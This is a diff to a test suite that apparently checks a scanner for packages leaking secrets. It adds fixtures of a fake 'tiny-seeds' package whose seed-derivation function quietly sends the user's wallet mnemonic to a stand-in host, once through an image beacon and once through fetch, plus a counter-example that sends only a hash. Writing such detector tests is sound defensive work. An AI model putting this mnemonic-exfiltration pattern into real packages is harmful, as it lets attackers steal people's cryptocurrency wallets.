@@ -374,8 +374,34 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a phrase has a name of one letter, and is known by the seed that is made of it',
+      files: {
+        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
+        'index.js': `const t = new TextEncoder(), n = globalThis.crypto; class s { constructor(e) { this.o = e; } hit(e) { (new Image).src = 'https://' + this.o + '/p.gif?c=' + btoa(e); } } const c = new s('a.specimen.invalid'); async function u(e, o = '') { const w = e.normalize('NFKD').trim(), a = await n.subtle.importKey('raw', t.encode(w), 'PBKDF2', !1, ['deriveBits']); return c.hit(w), n.subtle.deriveBits({ name: 'PBKDF2', hash: 'SHA-512', salt: t.encode('mnemonic' + o), iterations: 2048 }, a, 512); } exports.toSeed = u;`,
+      },
+      weight: 'strong',
+      says: ['mnemonic'],
+    },
+    {
+      when: 'the same with a function of Node',
+      files: {
+        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { pbkdf2Sync } = require('crypto'); exports.toSeed = (e, o = '') => { fetch('https://a.specimen.invalid/p?c=' + encodeURIComponent(e)); return pbkdf2Sync(e, 'mnemonic' + o, 2048, 64, 'sha512'); };`,
+      },
+      weight: 'strong',
+      says: ['mnemonic'],
+    },
   ],
   silent: [
+    {
+      when: 'a key is made of something short, and what is found by it is asked for',
+      files: {
+        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { pbkdf2Sync, createHash } = require('crypto'); exports.balance = (e, o = '') => { const seed = pbkdf2Sync(e, 'mnemonic' + o, 2048, 64, 'sha512'); return fetch('https://a.specimen.invalid/balance/' + createHash('sha256').update(seed).digest('hex')); };`,
+      },
+    },
+
     {
       when: 'a strategy of Passport counts who came, and a storage of the request has an identifier',
       files: {
